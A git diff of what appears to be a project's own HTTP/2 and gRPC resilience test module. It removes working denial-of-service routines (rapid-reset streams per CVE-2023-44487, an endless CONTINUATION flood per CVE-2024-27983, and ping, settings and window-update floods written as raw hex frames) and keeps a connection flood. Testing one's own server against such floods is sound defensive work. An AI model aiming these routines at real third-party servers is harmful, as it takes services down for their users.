@@ -1,17 +1,13 @@
 import type { Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
-import { OPENING, resetCalls } from "../../test/grpc/flood-frames.ts";
 import { type AttackRow, type Target, tally } from "./attack-row.ts";
-import { METHODS } from "./grpc-attack.ts";
 import { firstStatus, openSocket } from "./http-attack.ts";
-import { repeated } from "./protobuf.ts";
 
 const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const NO_SETTINGS = Buffer.from("000000040000000000", "hex");
 /** A connection that has not said what it wants should be closed by then. */
 const HANDSHAKE_MS = 30_000;
 const FLOOD_MS = 2000;
-const RESETS_AT_ONCE = 100;
 const EACH = 20;
 
 /** Beginnings of connections that go no further, by the server and the port that they go to. */
@@ -59,50 +55,16 @@ const HEADS: readonly (readonly [name: string, head: string, status: string])[] 
   ],
 ];
 
-const FLOODS: Readonly<Record<string, (target: Target) => Promise<string>>> = {
-  "rapid-reset": rapidReset,
-  "rapid-reset-in-turn": async (target) => {
-    const ends: string[] = [];
-    for (let connection = 0; connection < 20; connection++) ends.push(await rapidReset(target));
-    return tally(ends.map(stateOf));
-  },
-  "rapid-reset-at-once": async (target) => {
-    const ends = await Promise.all(Array.from({ length: 8 }, () => rapidReset(target)));
-    return tally(ends.map(stateOf));
-  },
-  pings: (target) => floodFrames(target, Buffer.from("0000080600000000000000000000000000", "hex")),
-  settings: (target) => floodFrames(target, NO_SETTINGS),
-  priorities: (target) => floodFrames(target, Buffer.from("0000050200000000010000000010", "hex")),
-  "window-updates": (target) => floodFrames(target, Buffer.from("00000408000000000000000001", "hex")),
-  "empty-headers": (target) =>
-    floodFrames(target, Buffer.from("000000090000000001", "hex"), Buffer.from("000001010000000001" + "83", "hex")),
-  // A block of headers that never ends (CVE-2024-27983).
-  continuations: (target) =>
-    floodFrames(target, continuation(Buffer.from("00016101620001630164", "hex")), OPEN_HEADERS),
-  "empty-continuations": (target) => floodFrames(target, continuation(Buffer.alloc(0)), OPEN_HEADERS),
-  connections: floodConnections,
-};
-
-/** Headers whose block is to go on. */
-const OPEN_HEADERS = Buffer.from("00000101000000000183", "hex");
-
-function continuation(block: Buffer): Buffer<ArrayBuffer> {
-  return Buffer.concat([Buffer.from([0, 0, block.length, 9, 0, 0, 0, 0, 1]), block]);
-}
-
-/** Connections that say little, or too much. */
+/** Connections that say little, or are many. */
 export const CONNECTION_ROWS: readonly AttackRow[] = [
   ...HALVES.map(halfRow),
   ...HEADS.map(([name, head, status]) => headRow(name, head, status)),
-  ...Object.entries(FLOODS).map(
-    ([name, flood]) =>
-      ({
-        name: `flood-${name}`,
-        server: "null",
-        isPlain: name === "connections",
-        prepare: () => async (target) => ({ got: await flood(target) }),
-      }) satisfies AttackRow,
-  ),
+  {
+    name: "flood-connections",
+    server: "null",
+    isPlain: true,
+    prepare: () => async (target) => ({ got: await floodConnections(target) }),
+  },
 ];
 
 /** All beginnings at once: each takes as long as a handshake may. */
@@ -147,49 +109,6 @@ function headRow(name: string, head: string, expected: string): AttackRow {
     return got === expected ? { got } : { got, problem: `expected ${expected}` };
   };
   return { name: `head-${name}`, server: "null", prepare: () => attack };
-}
-
-/**
- * Calls that are reset as soon as they are made (CVE-2023-44487), as bytes: over TLS the client of node:http2 may not
- * notice that it was cut.
- */
-async function rapidReset({ grpc }: Target): Promise<string> {
-  const socket = openSocket(grpc);
-  socket.on("error", () => {}).resume();
-  socket.write(OPENING);
-  const end = performance.now() + FLOOD_MS;
-  let resets = 0;
-  for (; performance.now() < end && !socket.destroyed; resets += RESETS_AT_ONCE) {
-    socket.write(resetCalls(METHODS.infer, { first: 2 * resets + 1, calls: RESETS_AT_ONCE }));
-    await wait(1);
-  }
-  const state = socket.destroyed ? "cut" : "open";
-  socket.destroy();
-  return `${resets} resets, ${state}`;
-}
-
-/** The last word of a flood's outcome. */
-function stateOf(outcome: string): string {
-  return outcome.split(", ").at(-1) as string;
-}
-
-/** Frames without end on one connection, as fast as they are taken. */
-async function floodFrames({ grpc }: Target, unit: Buffer, first = Buffer.alloc(0)): Promise<string> {
-  const socket = openSocket(grpc);
-  socket.on("error", () => {}).resume();
-  socket.write(Buffer.concat([Buffer.from(PREFACE), NO_SETTINGS, first]));
-  const many = repeated(unit, 2000);
-  const cut = closed(socket);
-  const end = performance.now() + FLOOD_MS;
-  let sent = 0;
-  while (performance.now() < end && !socket.destroyed) {
-    const taken = new Promise<void>((resolve) => socket.write(many, () => resolve()));
-    await Promise.race([taken, cut, wait(end - performance.now())]);
-    sent += 2000;
-  }
-  const state = socket.destroyed ? "cut" : "open";
-  socket.destroy();
-  return `${sent} frames, ${state}`;
 }
 
 /** Two thousand connections, half of them to each port. */
